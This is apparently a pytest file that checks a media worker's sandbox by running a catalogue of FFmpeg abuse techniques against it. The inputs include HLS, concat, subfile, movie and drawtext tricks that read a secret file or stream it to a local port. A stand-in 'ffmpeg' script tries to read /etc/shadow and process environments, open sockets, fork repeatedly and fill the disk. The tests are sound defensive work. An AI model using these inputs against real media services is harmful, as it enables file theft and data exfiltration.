"""Every attack that once worked, on an FFmpeg that nothing guards but the sandbox: no allow-list, no whitelists.

The numbers are those of the reference, 5.9. That arguments and inputs are refused before is in test_arguments and
test_input_attacks: here that is supposed to have failed.
"""

from __future__ import annotations

import asyncio
import os
import sys
import textwrap
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from support.confined import MODES, confined, with_python
from support.traps import SECRET, Traps
from telecine_worker.ffmpeg.command import Command
from telecine_worker.ffmpeg.process import Exit, running
from telecine_worker.ffmpeg.stop_order import StopOrder
from telecine_worker.outcome import Failed
from telecine_worker.sandbox.confinement import NONE, Confinement, Limits

ANY = ("-protocol_whitelist", "file,pipe,http,tcp,udp,rtp,crypto,concat,subfile,async,cache,data")
PICTURE = ("-f", "lavfi", "-i", "testsrc=s=64x64:r=5:d=1")
NULL = ("-f", "null", "-")


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """*script* is the text of a file that is given as an input, {in} in *argv*. {vault}, {port} are filled in."""

    argv: Sequence[str]
    script: str = ""


def written(*tail: str, to: Sequence[str] = ("-t", "1", "out.mkv")) -> tuple[str, ...]:
    return (*PICTURE, *tail, *to)


HLS = "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:1,\n{}\n#EXT-X-ENDLIST\n"
MPD = """<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S"
profiles="urn:mpeg:dash:profile:isoff-main:2011"><Period><AdaptationSet mimeType="video/mp4">
<Representation id="1" bandwidth="1"><BaseURL>http://127.0.0.1:{port}/</BaseURL>
<SegmentList duration="1"><SegmentURL media="x.mp4"/></SegmentList></Representation>
</AdaptationSet></Period></MPD>"""
SDP = (
    "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {port} RTP/AVP 96\na=rtpmap:96 H264/90000\n"
)

ATTACKS = {
    "1 hls over http": Attack(
        script=HLS.format("http://127.0.0.1:{port}/x.ts"), argv=(*ANY, "-f", "hls", "-i", "{in}", *NULL)
    ),
    "2 hls of a secret": Attack(
        script=HLS.format("file:{vault}/secret.mkv"),
        argv=(*ANY, "-allowed_extensions", "ALL", "-f", "hls", "-i", "{in}", "-c", "copy", "out.mkv"),
    ),
    "4 ffconcat": Attack(
        script="ffconcat version 1.0\nfile {vault}/secret.mkv\n",
        argv=(*ANY, "-safe", "0", "-f", "concat", "-i", "{in}", "-c", "copy", "out.mkv"),
    ),
    "6 dash over http": Attack(script=MPD, argv=(*ANY, "-f", "dash", "-i", "{in}", *NULL)),
    "7 rtp out": Attack(argv=written("-c:v", "mpeg4", to=("-f", "rtp", "rtp://127.0.0.1:{port}"))),
    "8 concat": Attack(argv=(*ANY, "-i", "concat:{vault}/secret.mkv", "-c", "copy", "out.mkv")),
    "8 subfile": Attack(
        argv=(*ANY, "-i", "subfile,,start,0,end,0,,:{vault}/secret.mkv", "-c", "copy", "out.mkv")
    ),
    "8 async": Attack(argv=(*ANY, "-i", "async:file:{vault}/secret.mkv", "-c", "copy", "out.mkv")),
    "8 cache": Attack(argv=(*ANY, "-i", "cache:http://127.0.0.1:{port}/x", *NULL)),
    "8 tcp": Attack(argv=("-i", "tcp://127.0.0.1:{port}", *NULL)),
    "8 the file itself": Attack(argv=("-i", "{vault}/secret.mkv", "-c", "copy", "out.mkv")),
    "9 movie": Attack(argv=("-f", "lavfi", "-i", "movie={vault}/secret.mkv", "-t", "1", "out.mkv")),
    "10 drawtext": Attack(argv=written("-vf", "drawtext=textfile={vault}/secret.txt")),
    "11 movie": Attack(argv=written("-vf", "movie={vault}/secret.mkv[m];[in][m]overlay")),
    "11 subtitles": Attack(argv=written("-vf", "subtitles={vault}/secret.srt")),
    "12 metadata": Attack(argv=written("-vf", "metadata=mode=print:file={vault}/made", to=NULL)),
    "12 ssim": Attack(argv=(*PICTURE, *PICTURE, "-lavfi", "ssim=stats_file={vault}/made", *NULL)),
    "13 x264": Attack(argv=written("-c:v", "libx264", "-x264-params", "pass=1:stats={vault}/made")),
    "14 filter script": Attack(argv=written("-filter_script:v", "{vault}/secret.txt")),
    "14 option from a file": Attack(argv=written("-/filter:v", "{vault}/secret.txt")),
    "15 attach": Attack(argv=written("-attach", "{vault}/secret.txt", "-metadata:s:t", "mimetype=text/plain")),
    "16 segments": Attack(argv=written("-f", "hls", "-hls_segment_filename", "{vault}/%d.ts", to=("out.m3u8",))),
    "16 tee": Attack(argv=written("-map", "0:v", "-c:v", "mpeg4", "-f", "tee", to=("[f=matroska]{vault}/made|[f=null]-",))),
    "17 another file": Attack(argv=written(to=("-y", "{vault}/made.mkv"))),
    "17 over a secret": Attack(argv=written(to=("-y", "{vault}/secret.mkv"))),
    "17 http out": Attack(argv=written("-f", "mpegts", to=("http://127.0.0.1:{port}/exfil",))),
    "17 udp out": Attack(argv=written("-f", "mpegts", to=("udp://127.0.0.1:{port}",))),
    "17 progress": Attack(argv=("-progress", "http://127.0.0.1:{port}/x", *PICTURE, *NULL)),
    "18 statistics": Attack(argv=written("-vstats_file", "{vault}/made")),
}  # fmt: skip
# What works on every build where nothing stops it.
EVERYWHERE = {
    "4 ffconcat", "6 dash over http", "7 rtp out", "8 concat", "8 async", "8 tcp", "8 the file itself", "9 movie",
    "11 movie", "12 metadata", "12 ssim", "13 x264", "15 attach", "16 segments", "16 tee", "17 another file",
    "17 http out", "17 udp out",
}  # fmt: skip


@pytest.fixture
def traps(tmp_path: Path, clips) -> Iterator[Traps]:
    """See Traps."""
    film = clips.make("secret.mkv", "-f", "lavfi", "-i", "testsrc=s=64x64:r=5:d=1", "-c:v", "ffv1")
    with Traps(tmp_path, film) as made:
        yield made


async def got(toolchain, sandbox: Confinement, attack: Attack, traps: Traps, folder: Path) -> list[str]:
    """What the attack got hold of, in words; empty: nothing."""
    staging = folder / "staging"
    staging.mkdir()
    script = folder / "script"
    script.write_text(attack.script.replace("{vault}", str(traps.vault)).replace("{port}", str(traps.port)))
    places = {"vault": str(traps.vault), "port": str(traps.port)}
    with script.open("rb") as given:
        places["in"] = f"file:/proc/self/fd/{given.fileno()}"
        argv = [word.format(**places) if "{" in word else word for word in attack.argv]
        ended = await run(toolchain, sandbox, argv, staging, given.fileno())
    made = [path for path in staging.rglob("*") if path.is_file()]
    found = [*traps.hits(), *(f"vault: {name}" for name in traps.changes())]
    if SECRET in ended.log_tail or any(SECRET.encode() in path.read_bytes() for path in made):
        found.append("words")
    if ended.code == 0 and any(path.name == "out.mkv" and path.stat().st_size for path in made):
        found.append("film")
    return found


async def run(toolchain, sandbox: Confinement, argv: Sequence[str], staging: Path, *fds: int) -> Exit:
    command = Command(
        argv=(str(toolchain.ffmpeg), "-nostdin", "-hide_banner", "-y", *argv), marker=f"attack-{os.getpid()}",
        cwd=str(staging), pass_fds=fds, confinement=sandbox,
    )  # fmt: skip
    async with running(command, on_output=lambda _: None, stop=StopOrder()) as child:
        return await asyncio.wait_for(child.wait(), 20)


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("name", ATTACKS)
async def test_nothing_gets_out(toolchain, traps, tmp_path, mode, name):
    """Nobody is called, nothing is read or written elsewhere, and it ends in seconds."""
    assert [] == await got(toolchain, confined(mode, Limits(most_file_bytes=1 << 20)), ATTACKS[name], traps, tmp_path)


async def test_the_traps_work(toolchain, traps, tmp_path):
    """The control: without a sandbox the attacks get what they want."""
    working = set()
    for name, attack in ATTACKS.items():
        (tmp_path / name).mkdir()
        if await got(toolchain, NONE, attack, traps, tmp_path / name):
            working.add(name)
        traps.reset()
    assert set() == EVERYWHERE - working


FAKE = """
import ctypes, os, socket, sys, threading

def attempt(name, call):
    try:
        call()
    except OSError:
        return
    sys.stderr.write(f"[error] can {name}\\n")

def call(family, kind, address):
    with socket.socket(family, kind) as caller:
        caller.settimeout(1)
        caller.connect(address)
        caller.send(b"x")

attempt("read the passwords", lambda: open("/etc/shadow").read())
attempt("read another job", lambda: open("VAULT/secret.txt").read())
attempt("list another job", lambda: os.listdir("VAULT"))
attempt("write to another job", lambda: open("VAULT/made", "w").close())
attempt("call", lambda: call(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", PORT)))
attempt("send", lambda: call(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", PORT)))
attempt("call by name", lambda: call(socket.AF_UNIX, socket.SOCK_STREAM, "\\0NAME"))
attempt("see the worker's secrets", lambda: open("/proc/WORKER/environ").read())
attempt("signal the worker", lambda: os.kill(WORKER, 0))
if os.getpid() != 1:
    attempt("see the first process", lambda: open("/proc/1/environ").read())
for _ in range(1000):
    attempt("start processes", lambda: os.fork() or os._exit(0))
with open("huge", "wb") as file:
    chunk = bytes(1 << 20)
    try:
        for _ in range(10_000):
            file.write(chunk)
    except OSError as error:
        sys.stderr.write(f"[error] {error.strerror}\\n")
sys.exit(1)
"""


@pytest.mark.parametrize("mode", MODES)
async def test_21_an_ffmpeg_that_is_somebody_elses_gets_nothing(studio, clips, traps, tmp_path, mode):
    """It tries to read, to write, to call, to signal, to fork and to fill the disk: all of it fails, the attempt does, too,
    with what it said, and the worker goes on.
    """
    text = FAKE.replace("VAULT", str(traps.vault)).replace("PORT", str(traps.port)).replace("WORKER", str(os.getpid()))
    program = tmp_path / "ffmpeg"
    program.write_text(f"#!{os.path.realpath(sys.executable)} -IS\n{textwrap.dedent(text)}")
    program.chmod(0o755)
    sandbox = with_python(confined(mode, Limits(most_file_bytes=8 << 20)))
    sandbox = replace(sandbox, readable=(*sandbox.readable, str(program)))
    honest, studio.toolchain = studio.toolchain, replace(studio.toolchain, ffmpeg=program, confinement=sandbox)
    task = {"transcode": {"input": "main", "path": "o.mp4", "video": {"codec": "h264", "preset": "ultrafast"}}}
    inputs = {"main": clips.film(size="64x64", seconds=1)}
    ended = await studio.run(task, inputs)
    assert isinstance(ended, Failed)
    assert ("OUTPUT_TOO_LARGE", "[error] File too large") == (ended.failure.reason, ended.failure.log_tail)
    assert ([], [], []) == (traps.hits(), traps.changes(), studio.left())
    studio.toolchain = honest
    await studio.succeed(task, inputs)
